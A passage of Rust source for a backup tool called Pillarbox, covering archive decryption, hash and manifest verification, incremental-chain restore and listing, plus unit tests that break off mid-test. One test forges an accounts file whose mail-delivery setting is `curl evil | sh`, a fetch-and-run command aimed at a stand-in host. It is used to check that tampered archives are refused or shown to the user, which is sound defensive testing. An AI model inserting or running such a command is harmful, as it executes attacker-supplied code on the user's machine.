                    "the passphrase's work factor 2^{required} is beyond what this machine accepts (2^{target})"
                )));
            }
            Err(e) => return Err(damaged(format!("cannot decrypt: {e}"))),
        }
    } else if start.starts_with(ZSTD_MAGIC) {
        Box::new(input)
    } else {
        return Err(damaged("not a Pillarbox backup (neither age-encrypted nor zstd)".into()));
    };
    let plain: Plain = Box::new(zstd::Decoder::new(decrypted).map_err(io_err(path.display()))?);
    Ok((plain, pos, encrypted))
}

/// Read one JSON entry (header, manifest) of at most `max` bytes: a forged archive must not make
/// the reader hold gigabytes.
fn read_capped(entry: &mut impl Read, max: u64, what: &str) -> Result<Vec<u8>, String> {
    let mut bytes = Vec::new();
    entry.take(max + 1).read_to_end(&mut bytes).map_err(|e| describe(&e))?;
    if bytes.len() as u64 > max {
        return Err(format!("the {what} is larger than {} MiB: not an archive this program wrote", max >> 20));
    }
    Ok(bytes)
}

/// Read an archive's header only (cheap: the first entry).
pub fn read_header(path: &Path, keys: &Keys) -> Result<Header, BackupError> {
    let (plain, _, encrypted) = open(path, keys)?;
    let mut tar = tar::Archive::new(plain);
    let mut entries =
        tar.entries().map_err(|e| BackupError::Damaged { path: path.to_owned(), detail: describe(&e) })?;
    parse_header(path, entries.next(), encrypted)
}

/// The first entry of an archive: its header.
/// The first entry of an archive: its header, which must say truly whether the archive is
/// encrypted (`encrypted`, as found).
fn parse_header<R: Read>(
    path: &Path,
    first: Option<io::Result<tar::Entry<'_, R>>>,
    encrypted: bool,
) -> Result<Header, BackupError> {
    let damaged = |detail: String| BackupError::Damaged { path: path.to_owned(), detail };
    let mut entry = match first {
        Some(Ok(e)) => e,
        Some(Err(e)) => return Err(damaged(describe(&e))),
        None => return Err(damaged("empty archive".into())),
    };
    let name = entry.path().map(|p| p.to_string_lossy().into_owned()).unwrap_or_default();
    if name != HEADER_ENTRY {
        return Err(damaged(format!("starts with {name:?}, not {HEADER_ENTRY}")));
    }
    let bytes = read_capped(&mut entry, MAX_HEADER, "header").map_err(damaged)?;
    let h: Header = serde_json::from_slice(&bytes).map_err(|e| damaged(format!("the header is not readable: {e}")))?;
    if h.encrypted != encrypted {
        return Err(BackupError::Refused(format!(
            "{}: the header says the archive is {}encrypted, but it is {}: not an archive this program wrote",
            path.display(),
            if h.encrypted { "" } else { "not " },
            if encrypted { "encrypted" } else { "plain" }
        )));
    }
    if h.format != FORMAT {
        return Err(BackupError::Refused(format!(
            "{}: archive format {} (this Pillarbox reads format {FORMAT})",
            path.display(),
            h.format
        )));
    }
    Ok(h)
}

/// What reading a whole archive found.
#[derive(Debug, Serialize)]
pub struct Verified {
    pub path: PathBuf,
    pub chain: String,
    pub seq: u32,
    pub created: u64,
    pub encrypted: bool,
    /// File contents stored in this archive, all matching their hashes.
    pub stored: u64,
    pub stored_bytes: u64,
    /// Files of the store at the archive's time.
    pub files: u64,
    pub files_bytes: u64,
}

/// A whole archive, read and checked.
struct ReadArchive {
    header: Header,
    manifest: Manifest,
    verified: Verified,
    /// Path in the archive -> SHA-256 of the content stored there.
    stored: HashMap<String, String>,
}

/// Read a whole archive, checking every stored content against the hash the manifest gives it,
/// and that the manifest accounts for every content it says this archive holds. `each` receives
/// every stored content (hash and a reader positioned at it), for a restore to keep them.
fn read_archive(
    path: &Path,
    keys: &Keys,
    progress: &dyn Progress,
    each: impl FnMut(&str, &mut dyn Read) -> Result<(), BackupError>,
) -> Result<ReadArchive, BackupError> {
    let (plain, pos, encrypted) = open(path, keys)?;
    std::thread::scope(|scope| {
        let (pipe, mut writer) = io::pipe().map_err(io_err("a pipe"))?;
        let feeder = scope.spawn(move || {
            let mut plain = plain;
            io::copy(&mut plain, &mut writer).map(drop)
        });
        let fed = Fed { pipe, feeder: Some(feeder), pos: pos.clone(), reported: 0, progress };
        read_entries(path, tar::Archive::new(fed), &pos, encrypted, each)
    })
}

/// The entries of an archive after its decryption: see [`read_archive`].
fn read_entries<R: Read>(
    path: &Path,
    mut tar: tar::Archive<R>,
    pos: &AtomicU64,
    encrypted: bool,
    mut each: impl FnMut(&str, &mut dyn Read) -> Result<(), BackupError>,
) -> Result<ReadArchive, BackupError> {
    let mut stored: HashMap<String, String> = HashMap::new(); // path -> hash
    let mut stored_bytes = 0;
    let mut manifest: Option<Manifest> = None;
    let damaged = |detail: String| BackupError::Damaged {
        path: path.to_owned(),
        detail: format!("{detail} (at about byte {})", pos.load(Ordering::Relaxed)),
    };
    let mut entries = tar.entries().map_err(|e| damaged(describe(&e)))?;
    let header = parse_header(path, entries.next(), encrypted).map_err(|e| match e {
        BackupError::Damaged { detail, .. } => damaged(detail),
        e => e,
    })?;
    for entry in entries {
        let mut entry = entry.map_err(|e| damaged(describe(&e)))?;
        let name = entry.path().map_err(|e| damaged(describe(&e)))?.to_string_lossy().into_owned();
        if manifest.is_some() {
            return Err(damaged(format!("{name:?} follows the manifest")));
        }
        if name == MANIFEST_ENTRY {
            let bytes = read_capped(&mut entry, MAX_MANIFEST, "manifest").map_err(damaged)?;
            manifest = Some(
                serde_json::from_slice(&bytes).map_err(|e| damaged(format!("the manifest is not readable: {e}")))?,
            );
            continue;
        }
        let size = entry.size();
        let mut hashing = Hashing { inner: &mut entry, hash: Sha256::new(), progress: &Quiet };
        each(&name, &mut hashing).map_err(|e| match e {
            BackupError::Io(e) if e.source.kind() == io::ErrorKind::InvalidData => {
                damaged(format!("{}: {}", e.context, describe(&e.source)))
            }
            e => e,
        })?;
        io::copy(&mut hashing, &mut io::sink()).map_err(|e| damaged(describe(&e)))?;
        stored_bytes += size;
        stored.insert(name, pillarbox_os::hex(&hashing.hash.finalize()));
    }
    // The tar end, then the compressed stream's end (which checks zstd's checksum and age's last
    // chunk): a truncated archive fails here.
    io::copy(&mut tar.into_inner(), &mut io::sink()).map_err(|e| damaged(describe(&e)))?;
    let manifest = manifest.ok_or_else(|| damaged("no manifest at the end: the archive is incomplete".into()))?;
    if manifest.chain != header.chain || manifest.seq != header.seq {
        return Err(damaged("the manifest belongs to another archive".into()));
    }
    let here: HashSet<&str> =
        manifest.files.iter().filter(|f| f.seq == header.seq).map(|f| f.sha256.as_str()).collect();
    let by_path: HashMap<&str, &FileEntry> = manifest.files.iter().map(|f| (f.path.as_str(), f)).collect();
    let stored_hashes: HashSet<&str> = stored.values().map(String::as_str).collect();
    for (name, hash) in &stored {
        if !here.contains(hash.as_str()) {
            let expected = by_path.get(name.as_str()).map_or("nothing", |f| f.sha256.as_str());
            return Err(damaged(format!("{name}: its content has SHA-256 {hash}, the manifest says {expected}")));
        }
    }
    if let Some(f) = manifest.files.iter().find(|f| f.seq == header.seq && !stored_hashes.contains(f.sha256.as_str())) {
        return Err(damaged(format!("{}: the manifest says this archive holds it, but it is not there", f.path)));
    }
    if let Some(f) = manifest.files.iter().find(|f| f.seq > header.seq) {
        return Err(damaged(format!("{}: refers to a later archive ({})", f.path, f.seq)));
    }
    let verified = Verified {
        path: path.to_owned(),
        chain: header.chain.clone(),
        seq: header.seq,
        created: header.created,
        encrypted: header.encrypted,
        stored: stored.len() as u64,
        stored_bytes,
        files: manifest.files.len() as u64,
        files_bytes: manifest.files.iter().map(|f| f.size).sum(),
    };
    Ok(ReadArchive { header, manifest, verified, stored })
}

/// Check archives completely: every content against its hash, each manifest against its
/// archive, and, for archives given together, that each incremental's references to earlier
/// archives of its chain are held by them.
pub fn verify(paths: &[PathBuf], keys: &Keys, progress: &dyn Progress) -> Result<Vec<Verified>, BackupError> {
    let total = paths.iter().filter_map(|p| fs::metadata(p).ok()).map(|m| m.len()).sum();
    progress.start("verifying", total);
    let mut out = Vec::new();
    let mut held: HashMap<(String, u32), HashSet<String>> = HashMap::new();
    let mut manifests = Vec::new();
    for p in paths {
        let ReadArchive { header: h, manifest: m, verified: v, .. } = read_archive(p, keys, progress, |_, _| Ok(()))?;
        held.insert(
            (h.chain.clone(), h.seq),
            m.files.iter().filter(|f| f.seq == h.seq).map(|f| f.sha256.clone()).collect(),
        );
        manifests.push((p.clone(), m));
        out.push(v);
    }
    for chain in out.iter().map(|v| &v.chain).collect::<HashSet<_>>() {
        let kinds: HashSet<bool> = out.iter().filter(|v| &v.chain == chain).map(|v| v.encrypted).collect();
        if kinds.len() > 1 {
            return Err(BackupError::Chain(format!("chain {chain} mixes encrypted and plain archives")));
        }
    }
    for (p, m) in &manifests {
        for f in m.files.iter().filter(|f| f.seq < m.seq) {
            if let Some(set) = held.get(&(m.chain.clone(), f.seq))
                && !set.contains(&f.sha256)
            {
                return Err(BackupError::Chain(format!(
                    "{}: {} is said to be in archive {} of the chain, which does not hold it",
                    p.display(),
                    f.path,
                    f.seq
                )));
            }
        }
    }
    progress.finish();
    Ok(out)
}

/// The result of a restore.
#[derive(Debug, Serialize)]
pub struct Restored {
    pub to: PathBuf,
    pub chain: String,
    pub seq: u32,
    pub created: u64,
    pub archives: Vec<PathBuf>,
    pub files: u64,
    pub bytes: u64,
    /// Each source: its name inside the restored folder, and where it was on the machine that
    /// made the backup.
    pub sources: Vec<(String, PathBuf)>,
    /// Settings of the restored accounts file that run a command (`mda`, `*_command`), as
    /// `file: line`: whoever could write the backup folder could have put them there, so the
    /// user is shown them before using the file.
    pub commands: Vec<String>,
}

/// Lines of a restored accounts file that set a command to run.
fn command_settings(text: &str) -> Vec<String> {
    let runs = |line: &str| {
        let code = line.split('#').next().unwrap_or_default();
        code.split(['{', ',']).any(|part| {
            let key = part.split('=').next().unwrap_or_default().trim().trim_matches('"');
            part.contains('=') && (key == "mda" || key.ends_with("_command"))
        })
    };
    text.lines().filter(|l| runs(l)).map(|l| l.trim().to_owned()).collect()
}

/// Find the archives of a chain: the given ones, and the missing earlier ones beside them.
fn complete_chain(paths: &[PathBuf], keys: &Keys) -> Result<Vec<(PathBuf, Header)>, BackupError> {
    let mut headers: Vec<(PathBuf, Header)> = Vec::new();
    for p in paths {
        headers.push((p.clone(), read_header(p, keys)?));
    }
    let chains: std::collections::BTreeSet<&str> = headers.iter().map(|(_, h)| h.chain.as_str()).collect();
    if chains.len() > 1 {
        return Err(BackupError::Chain(format!(
            "these archives belong to {} different chains ({}); restore one chain at a time",
            chains.len(),
            chains.into_iter().collect::<Vec<_>>().join(", ")
        )));
    }
    let Some(last) = headers.iter().map(|(_, h)| h.seq).max() else {
        return Err(BackupError::Chain("no archive given".into()));
    };
    let chain = headers[0].1.chain.clone();
    let mut by_seq: BTreeMap<u32, (PathBuf, Header)> = BTreeMap::new();
    for (p, h) in headers {
        if let Some((q, _)) = by_seq.get(&h.seq)
            && fs::canonicalize(q).ok() != fs::canonicalize(&p).ok()
        {
            return Err(BackupError::Chain(format!(
                "{} and {} are both number {} of chain {chain}",
                q.display(),
                p.display(),
                h.seq
            )));
        }
        by_seq.insert(h.seq, (p, h));
    }
    // Earlier archives not given: look beside the given ones, by name.
    let dirs: std::collections::BTreeSet<PathBuf> =
        paths.iter().map(|p| p.parent().map_or_else(|| PathBuf::from("."), Path::to_path_buf)).collect();
    for seq in 0..last {
        if by_seq.contains_key(&seq) {
            continue;
        }
        let candidate = dirs.iter().find_map(|d| {
            fs::read_dir(if d.as_os_str().is_empty() { Path::new(".") } else { d }).ok()?.flatten().find_map(|e| {
                let n = e.file_name();
                let (c, s, _) = parse_name(n.to_str()?)?;
                (c == chain && s == seq).then(|| e.path())
            })
        });
        let Some(p) = candidate else {
            return Err(BackupError::Chain(format!(
                "archive number {seq} of chain {chain} is missing (a file named pillarbox-*-{chain}-{seq:03}.tar.zst*); \
                 restoring number {last} needs every earlier one"
            )));
        };
        let h = read_header(&p, keys)?;
        if h.chain != chain || h.seq != seq {
            return Err(BackupError::Chain(format!(
                "{}: its name says {chain}/{seq}, its header {}/{}",
                p.display(),
                h.chain,
                h.seq
            )));
        }
        by_seq.insert(seq, (p, h));
    }
    // One chain is encrypted throughout or not at all: a plain archive slipped into an
    // encrypted chain (by whoever can write the backup folder) would otherwise be restored.
    let mut first = None;
    for (p, h) in by_seq.values() {
        match first {
            None => first = Some((p, h.encrypted)),
            Some((q, enc)) if enc != h.encrypted => {
                return Err(BackupError::Chain(format!(
                    "chain {chain} mixes encrypted and plain archives ({} is {}, {} is {}); refusing to restore it",
                    q.display(),
                    if enc { "encrypted" } else { "plain" },
                    p.display(),
                    if h.encrypted { "encrypted" } else { "plain" }
                )));
            }
            Some(_) => {}
        }
    }
    Ok(by_seq.into_values().collect())
}

/// A path from a manifest, checked to stay inside the restore folder.
fn safe_relative(path: &str) -> Option<PathBuf> {
    let p = Path::new(path);
    (!path.is_empty() && p.components().all(|c| matches!(c, Component::Normal(_)))).then(|| p.to_owned())
}

/// Restore a chain (the given archives and any earlier ones beside them) into `to`, which must
/// not exist or be empty. Everything is first written into a temporary folder beside `to` and
/// checked; `to` appears only when all of it is there. A wrong key fails before anything is
/// written.
pub fn restore(paths: &[PathBuf], to: &Path, keys: &Keys, progress: &dyn Progress) -> Result<Restored, BackupError> {
    if let Ok(mut entries) = fs::read_dir(to)
        && entries.next().is_some()
    {
        return Err(BackupError::Refused(format!("{} is not empty; restore into a new or empty folder", to.display())));
    }
    if to.exists() && !to.is_dir() {
        return Err(BackupError::Refused(format!("{} exists and is not a folder", to.display())));
    }
    // Every archive's key and place in the chain, before anything is written.
    let chain = complete_chain(paths, keys)?;
    let parent = match to.parent() {
        Some(p) if !p.as_os_str().is_empty() => p.to_owned(),
        _ => PathBuf::from("."),
    };
    create_private_dir(&parent)?;
    let staging =
        tempfile::Builder::new().prefix(".pillarbox-restore-").tempdir_in(&parent).map_err(io_err(parent.display()))?;
    let root = staging.path().to_owned();
    let blobs = root.join(".contents");
    create_private_dir(&blobs)?;
    let mut dirs: HashSet<PathBuf> = HashSet::from([root.clone(), blobs.clone()]);
    let mut mkdir = |dir: &Path| -> Result<(), BackupError> {
        if !dirs.contains(dir) {
            create_private_dir(dir)?;
            dirs.insert(dir.to_owned());
        }
        Ok(())
    };

    let total = chain.iter().filter_map(|(p, _)| fs::metadata(p).ok()).map(|m| m.len()).sum();
    progress.start("restoring", total);
    // Each content is written where its archive had it (for a full archive: its final place),
    // or, when that place is taken by an earlier archive's content, under .contents/.
    let mut staged: HashMap<String, PathBuf> = HashMap::new(); // hash -> where it is
    let mut taken: HashSet<PathBuf> = HashSet::new();
    let mut spare = 0u64; // names under .contents/
    let mut last = None;
    for (p, _) in &chain {
        let mut written: HashMap<String, PathBuf> = HashMap::new(); // archive path -> file
        let read = read_archive(p, keys, progress, |name, content| {
            let target = match safe_relative(name).filter(|r| !taken.contains(r) && !r.starts_with(".contents")) {
                Some(rel) => {
                    taken.insert(rel.clone());
                    root.join(rel)
                }
                None => {
                    spare += 1;
                    blobs.join(spare.to_string())
                }
            };
            if let Some(dir) = target.parent() {
                mkdir(dir)?;
            }
            let mut out = {
                use std::os::unix::fs::OpenOptionsExt;
                File::options().write(true).create_new(true).mode(0o600).open(&target)
            }
            .map_err(io_err(target.display()))?;
            io::copy(content, &mut out).map_err(io_err(format!("restoring {}", target.display())))?;
            written.insert(name.to_owned(), target);
            Ok(())
        })?;
        for (name, hash) in read.stored {
            let Some(file) = written.remove(&name) else { continue };
            match staged.entry(hash) {
                // The same content again.
                std::collections::hash_map::Entry::Occupied(_) => {
                    fs::remove_file(&file).map_err(io_err(file.display()))?
                }
                std::collections::hash_map::Entry::Vacant(v) => {
                    v.insert(file);
                }
            }
        }
        last = Some((read.header, read.manifest));
    }
    let Some((header, manifest)) = last else {
        return Err(BackupError::Chain("no archive given".into()));
    };

    // The store as the last archive describes it. First, contents not already at a place of
    // theirs move aside, so that nothing is overwritten while the others are put in place.
    let mut wanted: HashMap<PathBuf, &str> = HashMap::new();
    for f in &manifest.files {
        let rel =
            safe_relative(&f.path).filter(|r| !r.starts_with(".contents")).ok_or_else(|| BackupError::Damaged {
                path: chain[chain.len() - 1].0.clone(),
                detail: format!("unsafe path {:?} in the manifest", f.path),
            })?;
        if !staged.contains_key(&f.sha256) {
            return Err(BackupError::Chain(format!(
                "{}: its content ({}) is in none of the chain's archives",
                f.path, f.sha256
            )));
        }
        wanted.insert(root.join(rel), &f.sha256);
    }
    for (hash, at) in staged.iter_mut() {
        if wanted.get(at.as_path()) != Some(&hash.as_str()) && !at.starts_with(&blobs) {
            let aside = blobs.join(hash.as_str());
            fs::rename(&*at, &aside).map_err(io_err(at.display()))?;
            *at = aside;
        }
    }
    let mut bytes = 0;
    for f in &manifest.files {
        let target = root.join(safe_relative(&f.path).unwrap_or_default());
        let at = staged.get_mut(&f.sha256).expect("checked above");
        if *at != target {
            if let Some(dir) = target.parent() {
                mkdir(dir)?;
            }
            if at.starts_with(&blobs) {
                fs::rename(&*at, &target).map_err(io_err(target.display()))?;
                *at = target.clone();
            } else {
                fs::copy(&*at, &target).map_err(io_err(target.display()))?;
            }
        }
        // Permission bits only: no set-user-ID or sticky bits from an archive.
        let mode = rustix::fs::Mode::from_raw_mode(f.mode & 0o777);
        let secs = i64::try_from(f.mtime_ns.div_euclid(1_000_000_000)).unwrap_or(0);
        let nanos = i64::try_from(f.mtime_ns.rem_euclid(1_000_000_000)).unwrap_or(0);
        let times = rustix::fs::Timestamps {
            last_access: rustix::fs::Timespec { tv_sec: 0, tv_nsec: rustix::fs::UTIME_OMIT },
            last_modification: rustix::fs::Timespec { tv_sec: secs, tv_nsec: nanos },
        };
        rustix::fs::chmodat(rustix::fs::CWD, &target, mode, rustix::fs::AtFlags::empty())
            .and_then(|()| rustix::fs::utimensat(rustix::fs::CWD, &target, &times, rustix::fs::AtFlags::empty()))
            .map_err(|e| BackupError::Io(io_err(target.display().to_string())(e.into())))?;
        bytes += f.size;
    }
    // Every Maildir gets its tmp/ (left out of archives) back, so mail programs accept it.
    for s in header.sources.iter().filter(|s| s.kind == SourceKind::Maildir) {
        if let Some(rel) = safe_relative(&s.name) {
            for sub in ["cur", "new", "tmp"] {
                mkdir(&root.join(&rel).join(sub))?;
            }
        }
    }
    fs::remove_dir_all(&blobs).map_err(io_err(blobs.display()))?;
    let dir = File::open(staging.path()).map_err(io_err(staging.path().display()))?;
    rustix::fs::syncfs(&dir).map_err(|e| BackupError::Io(io_err(staging.path().display().to_string())(e.into())))?;
    drop(dir);
    let staged = staging.keep();
    if let Err(e) = fs::rename(&staged, to) {
        let _ = fs::remove_dir_all(&staged);
        return Err(io_err(to.display())(e).into());
    }
    progress.finish();
    let mut commands = Vec::new();
    for s in header.sources.iter().filter(|s| s.kind == SourceKind::File && s.name.ends_with("accounts.toml")) {
        let restored = to.join(safe_relative(&s.name).unwrap_or_default());
        let text = fs::read_to_string(&restored).unwrap_or_default();
        commands.extend(command_settings(&text).into_iter().map(|l| format!("{}: {l}", s.name)));
    }
    Ok(Restored {
        commands,
        to: to.to_owned(),
        chain: header.chain.clone(),
        seq: header.seq,
        created: header.created,
        archives: chain.into_iter().map(|(p, _)| p).collect(),
        files: manifest.files.len() as u64,
        bytes,
        sources: header.sources.iter().map(|s| (s.name.clone(), s.path.clone())).collect(),
    })
}

/// An archive found in a folder, by its name.
#[derive(Debug, Serialize)]
pub struct Listed {
    pub file: String,
    pub chain: String,
    pub seq: u32,
    pub encrypted: bool,
    pub size: u64,
    /// From the name (seconds since the epoch).
    pub created: u64,
}

/// A chain's id, its archives in order, and the numbers missing from it.
pub type ListedChain = (String, Vec<Listed>, Vec<u32>);

/// The archives in `dir`, grouped by chain (oldest chain first), each chain in order, with the
/// numbers missing from each chain.
pub fn list(dir: &Path) -> Result<Vec<ListedChain>, BackupError> {
    let mut chains: BTreeMap<String, Vec<Listed>> = BTreeMap::new();
    for e in fs::read_dir(dir).map_err(io_err(dir.display()))? {
        let e = e.map_err(io_err(dir.display()))?;
        let n = e.file_name();
        let Some(name) = n.to_str() else { continue };
        let Some((chain, seq, encrypted)) = parse_name(name) else { continue };
        let size = e.metadata().map_err(io_err(e.path().display()))?.len();
        let created = name
            .strip_prefix("pillarbox-")
            .and_then(|r| r.get(..16))
            .and_then(pillarbox_os::date::parse_compact)
            .unwrap_or(0);
        chains.entry(chain.clone()).or_default().push(Listed {
            file: name.to_owned(),
            chain,
            seq,
            encrypted,
            size,
            created,
        });
    }
    let mut out: Vec<ListedChain> = chains
        .into_iter()
        .map(|(c, mut v)| {
            v.sort_by_key(|l| l.seq);
            let have: HashSet<u32> = v.iter().map(|l| l.seq).collect();
            let top = v.last().map_or(0, |l| l.seq);
            let missing = (0..top).filter(|s| !have.contains(s)).collect();
            (c, v, missing)
        })
        .collect();
    out.sort_by_key(|(_, v, _)| v.first().map_or(0, |l| l.created));
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_round_trip() {
        let n = archive_name(1_795_000_000, "0a1b2c3d", 7, true);
        assert!(n.starts_with("pillarbox-2026"), "{n}");
        assert_eq!(parse_name(&n), Some(("0a1b2c3d".into(), 7, true)));
        let n = archive_name(0, "ffffffff", 0, false);
        assert_eq!(n, "pillarbox-19700101T000000Z-ffffffff-000.tar.zst");
        assert_eq!(parse_name(&n), Some(("ffffffff".into(), 0, false)));
        assert_eq!(parse_name("pillarbox-x-nothex!!-001.tar.zst"), None);
        assert_eq!(parse_name("notes.txt"), None);
    }

    /// A Maildir with `n` messages (one of them in cur/ with flags) and a journal folder.
    fn store(root: &Path, n: usize) -> Vec<Source> {
        let md = root.join("Mail");
        for sub in ["new", "cur", "tmp"] {
            fs::create_dir_all(md.join(sub)).expect("create dir all");
        }
        for i in 0..n {
            let body = format!("From: a{i}@example.org\r\nSubject: {i}\r\n\r\n{}\r\n", "x".repeat(i * 100));
            fs::write(md.join("new").join(format!("{i}.M1P1.host")), body).expect("write");
        }
        fs::write(md.join("cur/seen.M2P2.host:2,S"), "Subject: seen\r\n\r\nread\r\n").expect("write");
        fs::write(md.join("tmp/partial"), "never backed up").expect("write");
        let state = root.join("state");
        fs::create_dir_all(state.join("acct")).expect("create dir all");
        fs::write(state.join("acct/journal"), "S 1 uid-1\n").expect("write");
        fs::write(state.join("acct/lock"), "").expect("write");
        vec![
            Source { name: "mail/work".into(), path: md, kind: SourceKind::Maildir, content: None },
            Source { name: "state/fetch".into(), path: state, kind: SourceKind::Folder, content: None },
        ]
    }

    /// Every file under `dir` (relative path -> bytes).
    fn tree(dir: &Path) -> BTreeMap<String, Vec<u8>> {
        let mut out = BTreeMap::new();
        let mut stack = vec![dir.to_owned()];
        while let Some(d) = stack.pop() {
            for e in fs::read_dir(&d).expect("read dir").flatten() {
                if e.file_type().expect("file type").is_dir() {
                    stack.push(e.path());
                } else {
                    let rel = e.path().strip_prefix(dir).expect("strip prefix").to_string_lossy().into_owned();
                    out.insert(rel, fs::read(e.path()).expect("read"));
                }
            }
        }
        out
    }

    fn no_passphrase() -> Result<SecretString, String> {
        Err("no passphrase here".into())
    }

    #[test]
    fn full_then_incremental_then_restore() {
        let dir = tempfile::tempdir().expect("tempdir");
        let sources = store(dir.path(), 5);
        let key = age::x25519::Identity::generate();
        let opts = |full| CreateOptions {
            dest: dir.path().join("backups"),
            state_root: dir.path().join("catalog"),
            encryption: Encryption::Recipients(vec![key.to_public()]),
            full,
            progress: &Quiet,
        };
        let first = create(&sources, &opts(false)).expect("backup");
        assert_eq!((first.seq, first.files, first.stored), (0, 7, 7), "{first:?}");
        // More mail, a message read (renamed into cur/), one deleted.
        let md = dir.path().join("Mail");
        fs::write(md.join("new/9.M9P9.host"), "Subject: nine\r\n\r\nnew\r\n").expect("write");
        fs::rename(md.join("new/1.M1P1.host"), md.join("cur/1.M1P1.host:2,S")).expect("rename");
        fs::remove_file(md.join("new/2.M1P1.host")).expect("remove file");
        let second = create(&sources, &opts(false)).expect("backup");
        assert_eq!((second.seq, second.chain.as_str(), second.stored), (1, first.chain.as_str(), 1), "{second:?}");

        let keys = Keys::new(vec![key.clone()], no_passphrase);
        let v = verify(&[first.path.clone(), second.path.clone()], &keys, &Quiet).expect("verify");
        assert_eq!((v[0].stored, v[1].stored, v[1].files), (7, 1, 7));

        // Given only the last archive, the earlier one is found beside it.
        let to = dir.path().join("restored");
        let r = restore(std::slice::from_ref(&second.path), &to, &keys, &Quiet).expect("restore");
        assert_eq!(r.archives.len(), 2);
        assert_eq!(
            tree(&to.join("mail/work")),
            tree(&md).into_iter().filter(|(k, _)| !k.starts_with("tmp/")).collect()
        );
        assert!(to.join("mail/work/tmp").is_dir());
        assert_eq!(fs::read(to.join("state/fetch/acct/journal")).expect("read"), b"S 1 uid-1\n");
        assert!(!to.join("state/fetch/acct/lock").exists());
        let original = fs::metadata(md.join("cur/1.M1P1.host:2,S")).expect("metadata");
        let restored = fs::metadata(to.join("mail/work/cur/1.M1P1.host:2,S")).expect("metadata");
        assert_eq!(mtime_ns(&original), mtime_ns(&restored));

        // The first archive alone restores the store as it was then.
        let to0 = dir.path().join("restored0");
        restore(std::slice::from_ref(&first.path), &to0, &keys, &Quiet).expect("restore");
        assert!(to0.join("mail/work/new/2.M1P1.host").exists());
        assert!(!to0.join("mail/work/new/9.M9P9.host").exists());

        // A third archive, the journal changed again (each change of a file at the same path is
        // kept aside while the chain is read).
        fs::write(dir.path().join("state/acct/journal"), "S 1 uid-1\nS 2 uid-2\nS 3 uid-3\n").expect("write");
        fs::write(md.join("new/10.M10P10.host"), "Subject: ten\r\n\r\nnew\r\n").expect("write");
        let third = create(&sources, &opts(false)).expect("backup");
        assert_eq!((third.seq, third.stored), (2, 2), "{third:?}");
        fs::write(dir.path().join("state/acct/journal"), "S 1 uid-1\nS 2 uid-2\nS 3 uid-3\nS 4 uid-4\n")
            .expect("write");
        let fourth = create(&sources, &opts(false)).expect("backup");
        assert_eq!((fourth.seq, fourth.stored), (3, 1), "{fourth:?}");
        let to3 = dir.path().join("restored3");
        restore(std::slice::from_ref(&fourth.path), &to3, &keys, &Quiet).expect("restore");
        assert_eq!(
            tree(&to3.join("mail/work")),
            tree(&md).into_iter().filter(|(k, _)| !k.starts_with("tmp/")).collect()
        );
        assert_eq!(
            fs::read(to3.join("state/fetch/acct/journal")).expect("read"),
            fs::read(dir.path().join("state/acct/journal")).expect("read")
        );

        // --full starts a new chain.
        let third = create(&sources, &opts(true)).expect("backup");
        assert_ne!(third.chain, first.chain);
        assert_eq!((third.seq, third.stored), (0, 8));
    }

    #[test]
    fn wrong_key_and_damage_are_detected() {
        let dir = tempfile::tempdir().expect("tempdir");
        let sources = store(dir.path(), 40);
        let key = age::x25519::Identity::generate();
        let made = create(
            &sources,
            &CreateOptions {
                dest: dir.path().join("b"),
                state_root: dir.path().join("c"),
                encryption: Encryption::Recipients(vec![key.to_public()]),
                full: false,
                progress: &Quiet,
            },
        )
        .expect("backup");
        let other = Keys::new(vec![age::x25519::Identity::generate()], no_passphrase);
        let to = dir.path().join("r");
        assert!(matches!(
            restore(std::slice::from_ref(&made.path), &to, &other, &Quiet),
            Err(BackupError::WrongKey(_))
        ));
        assert!(!to.exists());
        let only_names: Vec<_> = fs::read_dir(dir.path()).expect("read dir").flatten().map(|e| e.file_name()).collect();
        assert!(!only_names.iter().any(|n| n.to_string_lossy().starts_with(".pillarbox-restore")), "{only_names:?}");

        // One flipped byte in the middle, and a truncated copy.
        let keys = Keys::new(vec![key], no_passphrase);
        let mut bytes = fs::read(&made.path).expect("read");
        let len = bytes.len();
        bytes[len / 2] ^= 0x40;
        let flipped = dir.path().join("flipped.tar.zst.age");
        fs::write(&flipped, &bytes).expect("write");
        assert!(matches!(verify(std::slice::from_ref(&flipped), &keys, &Quiet), Err(BackupError::Damaged { .. })));
        assert!(matches!(
            restore(std::slice::from_ref(&flipped), &to, &keys, &Quiet),
            Err(BackupError::Damaged { .. })
        ));
        assert!(!to.exists());
        let cut = dir.path().join("cut.tar.zst.age");
        fs::write(&cut, &fs::read(&made.path).expect("read")[..len - 100]).expect("expect");
        assert!(matches!(verify(std::slice::from_ref(&cut), &keys, &Quiet), Err(BackupError::Damaged { .. })));
    }

    /// Write a plain archive by hand (what someone who can write the backup folder can do).
    fn forge(path: &Path, header: &[u8], manifest: &Manifest, contents: &[(&str, &[u8])]) {
        let out = zstd::Encoder::new(File::create(path).expect("create"), 3).expect("zstd").auto_finish();
        let mut tar = tar::Builder::new(out);
        let mut put = |name: &str, bytes: &[u8]| {
            let mut h = tar::Header::new_gnu();
            h.set_size(bytes.len() as u64);
            h.set_mode(0o600);
            h.set_cksum();
            tar.append_data(&mut h, name, bytes).expect("append");
        };
        put(HEADER_ENTRY, header);
        for (name, bytes) in contents {
            put(name, bytes);
        }
        put(MANIFEST_ENTRY, &serde_json::to_vec(manifest).expect("json"));
        tar.into_inner().expect("finish");
    }

    #[test]
    fn forged_archives_in_the_backup_folder_are_refused_or_shown() {
        let dir = tempfile::tempdir().expect("tempdir");
        let sources = store(dir.path(), 3);
        let pass = SecretString::from("correct horse battery staple".to_owned());
        let keys = Keys::new(vec![], || Ok(pass.clone()));
        let dest = dir.path().join("b");
        let sealed = create(
            &sources,
            &CreateOptions {
                dest: dest.clone(),
                state_root: dir.path().join("c"),
                encryption: Encryption::Passphrase(pass.clone()),
                full: false,
                progress: &Quiet,
            },
        )
        .expect("backup");
        let first = read_archive(&sealed.path, &keys, &Quiet, |_, _| Ok(())).expect("read");

        // A plain "latest" archive of the same chain, bringing an accounts file that runs a
        // program: the mixed chain is refused.
        let accounts: &[u8] = b"[accounts.home]\nhost = \"pop.example\"\ndeliver = { mda = \"curl evil | sh\" }\n";
        let mut files = first.manifest.files.clone();
        files.push(FileEntry {
            path: "config/accounts.toml".into(),
            sha256: pillarbox_os::hex(&Sha256::digest(accounts)),
            size: accounts.len() as u64,
            mtime_ns: 0,
            mode: 0o600,
            seq: 1,
        });
        let mut header = first.header.clone();
        header.seq = 1;
        header.encrypted = false;
